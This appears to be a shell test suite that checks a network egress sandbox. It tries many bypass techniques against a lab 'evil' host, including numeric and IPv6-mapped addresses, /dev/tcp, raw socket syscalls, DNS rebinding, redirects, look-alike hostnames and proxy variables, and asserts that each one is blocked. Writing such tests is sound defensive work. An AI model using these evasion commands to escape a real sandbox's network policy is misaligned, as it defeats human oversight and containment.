# retry: timeouts
# limit: 90
# levels: full strict
# needs: root
# Ways past the policy for the network, each of which gets through bare, in an internet of their own
# (netlab.sh).  What arrived outside is the ground truth.
. "$T_LIB"
. "$(dirname "$T_LIB")/netlab.sh"

# --- by address ---------------------------------------------------------------------------------------------

t_literals() {
	lab
	own_host
	local host
	for host in $EVIL $EVIL_NUMBER $EVIL_HEX $EVIL_OCTAL 45.33.8258 0x2d212042; do
		evades "curl -sS -m 3 http://$host/hello" connect "$EVIL:80"
	done
	for host in $EVIL_NUMBER $EVIL_HEX 45.2170946; do
		evades "$(py "socket.create_connection(('$host', 4444), 3).recv(9)")" connect "$EVIL:4444"
	done
	evades "curl -sS -m 3 'http://[::ffff:$EVIL]/hello'" connect "$EVIL:80"
	evades "curl -sS -m 3 'http://[::ffff:2d21:2042]/hello'" connect "$EVIL:80"
	evades "curl -sS -m 3 'http://[$EVIL6]/hello'"
	denied_in_ledger $EVIL6
	evades "curl -sS -m 3 'http://[2600:3c01:0:0::66]:8080/hello'"
	evades "$(py "socket.create_connection(('::ffff:$EVIL', 80), 3)")" connect "$EVIL:80"
	evades "curl -sS -m 3 'http://[fe80::ff:fe00:1%wire]/hello'" connect
	evades "curl -sS -m 3 http://$LAB_GATE/hello" connect "$LAB_GATE:80"
	evades "curl -sS -m 3 telnet://$EVIL:4444" connect "$EVIL:4444"
	evades "exec 3<>/dev/tcp/$EVIL/80" connect "$EVIL:80"
	evades "'$T_VICTIMS/net-static' connect $EVIL 80" connect "$EVIL:80"
	evades "'$T_VICTIMS/net-static' connect ::ffff:$EVIL 80" connect "$EVIL:80"
	evades "'$T_VICTIMS/net-static' connect $EVIL6 80"
	stopped "curl -sS -m 3 'http://[64:ff9b::$EVIL]/hello'" connect
	stopped "curl -sS -m 3 'http://[::$EVIL]/hello'" connect
	stopped "curl -sS -m 3 'http://[2002:2d21:2042::1]/hello'" connect
}

# An address that no allowed name answered with is a raw one, good or not.
t_raw_address() {
	lab
	own_host
	run curl -sS -m 3 http://$GOOD/hello
	out_is "good $GOOD"
	lab_forget
	fence curl -sS -m 3 http://$GOOD/hello
	rc_not 0
	recorded connect deny "$GOOD:80"
	not_reached tcp $GOOD
	# What an allowed name answered with is its own; its port is the rule's.
	own_host 'allow = www.own.example:80' 'deny = *.own.example'
	fsh "getent ahosts www.own.example >/dev/null && curl -sS -m 3 http://$GOOD2/hello"
	out_is "good $GOOD2"
	fsh "getent ahosts www.own.example >/dev/null && curl -sS -m 3 http://$GOOD2:8080/hello"
	rc_not 0
	recorded connect deny www.own.example:8080
	not_reached tcp $GOOD2 8080
}

# A socket that was somewhere good already.
t_used_sockets() {
	lab
	own_host
	local good="s = socket.socket()
s.connect(('own.example', 80))"
	evades "$(py "$good
libc = __import__('ctypes').CDLL(None)
libc.connect(s.fileno(), bytes(16), 16)
s.connect(('$EVIL', 80))")" connect "$EVIL:80"
	evades "$(py "$good
s.shutdown(2)
s.close()
s = socket.socket()
s.setblocking(False)
s.connect_ex(('$EVIL', 80))")" connect "$EVIL:80"
	evades "$(py "$good
libc = __import__('ctypes').CDLL(None)
fd = libc.syscall(41, 2, 1, 0)
at = struct.pack('>2sH4s8x', b'\\x02\\x00', 80, socket.inet_aton('$EVIL'))
print(libc.syscall(42, fd, at, 16))")" connect "$EVIL:80"
	evades "$(py "s = socket.socket()
s.bind(('0.0.0.0', 0))
s.settimeout(2)
s.connect(('$EVIL', 80))")" connect "$EVIL:80"
	# With TCP_FASTOPEN_CONNECT the first send connects.
	evades "$(py "s = socket.socket()
s.setsockopt(socket.IPPROTO_TCP, 30, 1)
s.connect(('$EVIL', 80))
s.send(b'secret')")" connect "$EVIL:80"
	evades "$(py "import asyncio
asyncio.run(asyncio.open_connection('evil.example', 80))")" resolve evil.example
}

# --- by other words for the host -----------------------------------------------------------------------------

t_host_header() {
	lab
	own_host
	evades "curl -sS -m 3 -H 'Host: own.example' http://evil.example/hello" resolve evil.example
	evades "curl -sS -m 3 -H 'Host: own.example' http://$EVIL/hello" connect "$EVIL:80"
	evades "getent hosts own.example
		curl -sS -m 3 --resolve own.example:80:$EVIL http://own.example/hello" connect "$EVIL:80"
	evades "getent hosts own.example
		curl -sS -m 3 --connect-to own.example:80:$EVIL:80 http://own.example/hello" connect "$EVIL:80"
	evades "curl -sS -k -m 3 --resolve own.example:443:[$EVIL6] https://own.example/hello"
	denied_in_ledger $EVIL6
}

t_redirects() {
	lab
	own_host
	evades "curl -sSL -m 3 http://own.example/redirect" resolve evil.example
	evades "curl -sSL -m 3 http://own.example/redirect-address" connect "$EVIL:80"
	evades "wget -q -T 3 -t 1 -O - http://own.example/redirect" resolve evil.example
	evades "$(py "import urllib.request
urllib.request.urlopen('http://own.example/redirect', timeout=3)")" resolve evil.example
	evades "node -e \"fetch('http://own.example/redirect-address').then(r \
=> r.text()).then(console.log)\"" connect "$EVIL:80"
	evades "git -c http.followRedirects=true ls-remote http://evil.example/repo.git" resolve evil.example
	evades "git -c http.curloptResolve=own.example:80:$EVIL ls-remote http://own.example/repo.git" connect "$EVIL:80"
	# And back again: what is good stays so.
	fence curl -sSL -m 3 http://own.example/redirect-own
	out_is "good own.example"
}

# Names that end, begin or look like the allowed one.
t_names_alike() {
	lab
	own_host
	local name
	for name in notown.example own.example.evil.example \
		xn--own-tna.example EVIL.example evil.example. WWW.Evil.Example.; do
		evades "curl -sS -m 3 http://$name/hello" resolve
	done
	for name in own.example@evil.example own.example:80@evil.example "own.example%2f@$EVIL"; do
		evades "curl -sS -m 3 http://$name/hello"
	done
	evades "curl -sS -m 3 http://hosts-evil.example/hello"
	recorded 'resolve|connect' deny hosts-evil.example
	echo 'www.own.example evil.example' >aliases
	evades "HOSTALIASES=$W/aliases curl -sS -m 3 http://evil.example/hello" resolve evil.example
	stopped "LOCALDOMAIN=evil.example RES_OPTIONS=ndots:5 getent hosts www"
	not_asked www.evil.example
}

# An allowed name that answers with an address of ours, of the cloud's or of the neighbours'.
t_rebinding() {
	lab
	local name
	python3 - "$S" <<'END' &
import socket, sys
for family, addr in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    s = socket.socket(family)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, 8099))
    s.listen(64)
    last = s if family == socket.AF_INET else None or s
    import threading
    def serve(s=s):
        while True:
            c, _ = s.accept()
            open(sys.argv[1] + "/local", "a").write("x")
            c.sendall(b"HTTP/1.0 200 OK\r\n\r\nevil local\n")
            c.close()
    threading.Thread(target=serve).start()
open(sys.argv[1] + "/serving", "w").close()
END
	until_true 10 test -e "$S/serving" || fail "no local server"
	own_host "allow = localhost:8099"
	for name in rebind-lo rebind-lo6; do
		rm -f "$S/local"
		run curl -sS -m 3 http://$name.own.example:8099/
		out_is "evil local"
		rm -f "$S/local"
		fence curl -sS -m 3 http://$name.own.example:8099/
		rc_not 0
		missing "$S/local"
		recorded connect deny $name.own.example
	done
	# Where the policy has a rule for localhost it is localhost that it speaks of.
	fence curl -sS -m 3 http://localhost:8099/
	out_is "evil local"
	stopped "curl -sS -m 3 http://rebind-mapped.own.example:8099/"
	rm -f "$S/local"
	# The first is asked about, and no one answers.
	OPTS=(-n)
	for name in rebind-private rebind-metadata rebind-metadata6; do
		evades "curl -sS -m 3 http://$name.own.example/hello" connect $name.own.example
	done
	missing "$S/local"
	# Of two addresses the public one is reached, the other is not.
	fence curl -sS -m 3 http://rebind-mixed.own.example/hello
	out_is "good rebind-mixed.own.example"
	fence curl -sS -m 3 http://rebind-mixed.own.example:8099/
	missing "$S/local"
}

# --- by proxies ------------------------------------------------------------------------------------------------

# A variable that the user has set: the address of the proxy is judged as any other.
t_proxies() {
	lab
	own_host
	local v
	export http_proxy=http://$EVIL:3128 https_proxy=http://$EVIL:3128 ALL_PROXY=http://$EVIL:3128
	evades "curl -sS -m 3 http://own.example/hello" connect "$EVIL:3128"
	evades "curl -sS -m 3 https://own.example/hello" connect "$EVIL:3128"
	evades "wget -q -T 3 -t 1 -O - http://own.example/hello" connect "$EVIL:3128"
	evades "git ls-remote http://own.example/repo.git" connect "$EVIL:3128"
	evades "$(py "import urllib.request
urllib.request.urlopen('http://own.example/hello', timeout=3)")" connect "$EVIL:3128"
	evades "perl -MHTTP::Tiny -e 'HTTP::Tiny->new(timeout => 3)->get(q(http://own.example/hello))'" connect "$EVIL:3128"
	unset http_proxy https_proxy
	export ALL_PROXY=socks5h://evil.example:4444
	evades "curl -sS -m 3 http://own.example/hello" resolve evil.example
	unset ALL_PROXY
	# A good proxy may be met: whither it leads is its own affair.
	export http_proxy=http://own.example:3128
	lab_forget
	fence curl -sS -m 3 http://elsewhere.example/
	out_is proxied
	only_the_good
	recorded connect allow own.example:3128
	# The variables change nothing of what goes without them.
	evades "curl -sS -m 3 --noproxy '*' http://evil.example/hello" resolve evil.example
}

scenario "$@"
